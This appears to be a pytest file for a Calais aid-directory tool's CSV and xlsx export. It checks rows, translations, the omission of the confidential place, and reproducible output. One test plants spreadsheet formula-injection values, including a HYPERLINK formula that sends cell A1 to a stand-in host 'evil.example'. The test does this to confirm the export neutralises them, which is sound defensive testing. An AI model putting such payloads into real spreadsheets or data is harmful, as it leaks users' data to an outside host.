"""The spreadsheet export: ``calais-guide export --format csv|xlsx``.

Rows are read back as a spreadsheet program would (CSV with its byte-order
mark, xlsx with openpyxl), for the built-in edition and the fixture guide
(hours, phones, a mobile team, a confidential place, a closure).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from calais_guide import sheet

from .conftest import copy_guide, edit_entry, invoke

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "fixtures" / "open-data"
HEADER = [name for name, _ in sheet.COLUMNS]


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would misread"
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == HEADER
    return list(reader)


def export(tmp_path: Path, fmt: str, *args: str | Path, name: str = "out") -> Path:
    target = tmp_path / f"{name}.{fmt}"
    code, out, err = invoke("export", "--format", fmt, "-o", target, *args)
    assert (code, err) == (0, ""), err
    assert out.startswith(f"Wrote {target}: ")
    return target


def by_id(rows: list[dict[str, Any]]) -> dict[str, list[dict[str, Any]]]:
    found: dict[str, list[dict[str, Any]]] = {}
    for row in rows:
        found.setdefault(row["id"], []).append(row)
    return found


def test_builtin_edition_rows(tmp_path: Path) -> None:
    path = export(tmp_path, "csv")
    rows = read_csv(path)
    # 19 entries; none has more than one place, none a confidential one.
    assert len(rows) == 19
    assert len(by_id(rows)) == 19
    mobile = [r for r in rows if r["place_kind"] == "mobile"]
    assert len(mobile) == 13
    for row in mobile:
        assert row["address"] == "Équipe mobile sur les lieux de vie"
        assert row["postal_code"] == row["city"] == ""
    utopia = by_id(rows)["utopia-56"][0]
    assert utopia["name"] == "Utopia 56"
    assert utopia["last_verified"] == "2023-03-01"
    assert utopia["verified_by"] == "livret inter-associatif de mars 2023"
    salam = by_id(rows)["salam"][0]
    assert salam["categories"] == "Nourriture; Tentes, couvertures, sacs de couchage; Vêtements"
    assert salam["category_codes"] == "food material clothes"
    code, out, err = invoke("export", "--format", "csv", "-o", tmp_path / "x.csv")
    assert out.strip() == f"Wrote {tmp_path / 'x.csv'}: 19 rows (19 entries), fr, csv."


def test_fixture_rows_hours_phones_mobile_confidential_closure(tmp_path: Path) -> None:
    rows = by_id(read_csv(export(tmp_path, "csv", "--entries", FIXTURE)))
    assert list(rows) == ["maison-exemple", "projet-enfant", "equipe-mobile"]
    [maison] = rows["maison-exemple"]
    assert maison["place_kind"] == "fixed"
    assert maison["address"] == "1 rue de l'Exemple, 62100 Calais"
    assert (maison["postal_code"], maison["city"]) == ("62100", "Calais")
    assert maison["hours"] == (
        "lundi – vendredi 09:00\u2009–\u200917:30\nsamedi 10:00\u2009–\u200913:00: Femmes seulement"
    )
    assert maison["special_days"] == "1–15 août 2024: Fermé (Congés d'été)"
    assert maison["closures"] == "24 déc. 2024\u2009–\u20092 janv. 2025: Fermé pour les fêtes"
    assert maison["phones"] == (
        "03 21 00 00 00 (Joignable jour et nuit, 7 jours sur 7; ar, fa)\n"
        "+44 20 7946 0000 (WhatsApp)"
    )
    assert maison["emails"] == "contact@example.org"
    assert maison["websites"] == "https://example.org/maison/"
    assert maison["languages_spoken"] == "arabe; persan; tigrigna"
    assert maison["welcome"] == "Tout le monde, sans condition; Femmes"
    assert maison["category_codes"] == "rest phone-charging information women"
    # The confidential place is never exported: the project still has its row.
    [projet] = rows["projet-enfant"]
    assert projet["parent"] == "maison-exemple"
    assert projet["place_kind"] == projet["address"] == projet["place_description"] == ""
    assert projet["hours"] == ""
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert "Lieu communiqué par téléphone" not in text
    assert "Adresse donnée par téléphone" not in text
    [mobile] = rows["equipe-mobile"]
    assert mobile["place_kind"] == "mobile"
    assert mobile["address"] == "Équipe mobile sur les lieux de vie"
    assert mobile["place_description"] == "Lieux de vie du Calaisis"
    assert mobile["hours"] == "lundi, mercredi et vendredi 18:00\u2009–\u200920:00"
    assert mobile["phones"] == "06 00 00 00 00 (SMS)"


def test_texts_and_labels_in_the_language_asked(tmp_path: Path) -> None:
    rows = by_id(read_csv(export(tmp_path, "csv", "--entries", FIXTURE, "--lang", "ar")))
    [maison] = rows["maison-exemple"]
    assert maison["closures"].endswith("مغلق خلال العطلات")
    assert "للنساء فقط" in maison["hours"]
    assert maison["category_codes"] == "rest phone-charging information women"
    assert maison["categories"].count("; ") == 3
    assert not any(c.isascii() and c.isalpha() for c in maison["categories"])
    # A text without Arabic falls back as in the booklet (en, then fr).
    assert rows["projet-enfant"][0]["summary"] == "Projet fictif pour les enfants, sans traduction."


def test_a_place_with_two_places_gets_two_rows(tmp_path: Path) -> None:
    db = copy_guide(FIXTURE, tmp_path)

    def second_place(data: Any) -> None:
        data["locations"].append(
            {
                "kind": "fixed",
                "address": {"street": "2 rue Test", "postal_code": "59140", "city": "Dunkerque"},
            }
        )

    edit_entry(db, "maison-exemple", second_place)
    rows = by_id(read_csv(export(tmp_path, "csv", "--entries", db)))
    assert [r["city"] for r in rows["maison-exemple"]] == ["Calais", "Dunkerque"]
    assert rows["maison-exemple"][1]["hours"] == ""
    assert rows["maison-exemple"][1]["phones"] == rows["maison-exemple"][0]["phones"]


def test_cells_never_become_formulas(tmp_path: Path) -> None:
    db = copy_guide(FIXTURE, tmp_path)
    edit_entry(
        db,
        "maison-exemple",
        lambda d: d.update(
            name='=HYPERLINK("http://evil.example/?"&A1,"clic")',
            alternate_name="+1+2",
            summary={"fr": "-2+3 de la soupe"},
            notes="x",
        ),
    )
    edit_entry(db, "equipe-mobile", lambda d: d.update(name="@SUM(1,2)"))
    rows = by_id(read_csv(export(tmp_path, "csv", "--entries", db)))
    maison = rows["maison-exemple"][0]
    assert maison["name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    assert maison["alternate_name"] == "'+1+2"
    assert maison["summary"] == "'-2+3 de la soupe"
    assert rows["equipe-mobile"][0]["name"] == "'@SUM(1,2)"
    # A foreign number first in its cell starts with '+': guarded too.
    assert sheet.csv_cell("+44 20 7946 0000") == "'+44 20 7946 0000"
    assert sheet.csv_cell("\t=1") == "'\t=1"
    assert sheet.csv_cell("a=1") == "a=1"
    # xlsx: text cells hold the text exactly, and none is a formula.
    book = openpyxl.load_workbook(export(tmp_path, "xlsx", "--entries", db))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert '=HYPERLINK("http://evil.example/?"&A1,"clic")' in values
    assert "+1+2" in values and "@SUM(1,2)" in values


def test_xlsx_holds_the_same_rows(tmp_path: Path) -> None:
    csv_rows = read_csv(export(tmp_path, "csv", "--entries", FIXTURE, "--lang", "ar"))
    path = export(tmp_path, "xlsx", "--entries", FIXTURE, "--lang", "ar")
    book = openpyxl.load_workbook(path)
    sheet_ = book.active
    assert sheet_.sheet_view.rightToLeft is True
    assert sheet_.freeze_panes == "C2"
    table = list(sheet_.iter_rows(values_only=True))
    assert list(table[0]) == HEADER
    assert len(table) == 1 + len(csv_rows)
    for row, expected in zip(table[1:], csv_rows, strict=True):
        got = dict(zip(HEADER, row, strict=True))
        assert got["last_verified"] == dt.datetime(2024, 5, 20)
        for key, value in expected.items():
            if key != "last_verified":
                assert (got[key] or "") == value.removeprefix("'"), key
    # Same data, same bytes: nothing is stamped with today.
    assert book.properties.created == dt.datetime(2024, 6, 1)
    assert book.properties.modified == dt.datetime(2024, 6, 1)
    again = export(tmp_path, "xlsx", "--entries", FIXTURE, "--lang", "ar", name="again")
    assert again.read_bytes() == path.read_bytes()
    fr = openpyxl.load_workbook(export(tmp_path, "xlsx", "--entries", FIXTURE, name="fr"))
    assert fr.active.sheet_view.rightToLeft is not True


def test_builtin_xlsx(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(export(tmp_path, "xlsx"))
    table = list(book.active.iter_rows(values_only=True))
    assert len(table) == 1 + 19


def test_standard_output_and_default_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = invoke("export", "--format", "csv", "--entries", FIXTURE)
    assert (code, err) == (0, "")
    assert out.strip() == "Wrote build/directory-2024-06-fr.csv: 3 rows (3 entries), fr, csv."
    assert (tmp_path / "build" / "directory-2024-06-fr.csv").is_file()
    code, out, err = invoke("export", "--format", "csv", "-o", "-", "--entries", FIXTURE)
    assert code == 0
    assert out.startswith("\ufeffid,name,") or out.startswith("id,name,")
    assert "Maison Exemple" in out
    assert err.strip() == "Wrote standard output: 3 rows (3 entries), fr, csv."


def test_missing_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # import openpyxl -> ImportError
    target = tmp_path / "out.xlsx"
    code, out, err = invoke("export", "--format", "xlsx", "-o", target, "--entries", FIXTURE)
    assert (code, out) == (1, "")
    assert err.strip() == (
        "error: --format xlsx needs the Python package openpyxl, which is not installed: "
        "pip install 'calais-guide[xlsx]' (or use --format csv)"
    )
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []
    # csv needs nothing more
    export(tmp_path, "csv", "--entries", FIXTURE)


def test_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = invoke("export", "--format", "ods", "--entries", FIXTURE)
    assert (code, out) == (2, "")
    assert err.strip() == "error: --format ods: use one of hsds, hsds-csv, csv, xlsx"
    (tmp_path / "file").write_text("x")
    for fmt in ("csv", "xlsx"):
        target = tmp_path / "file" / f"out.{fmt}"
        code, out, err = invoke("export", "--format", fmt, "-o", target, "--entries", FIXTURE)
        assert (code, out) == (1, ""), err
        assert err.strip() == (
            f"error: cannot write {target}: {tmp_path / 'file'} is a file, not a folder: "
            "choose another path"
        )
        assert "Traceback" not in err
    code, out, err = invoke("export", "--format", "csv", "-o", tmp_path, "--entries", FIXTURE)
    # An existing folder receives the default name.
    assert code == 0, err
    assert (tmp_path / "directory-2024-06-fr.csv").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["directory-2024-06-fr.csv", "file"]
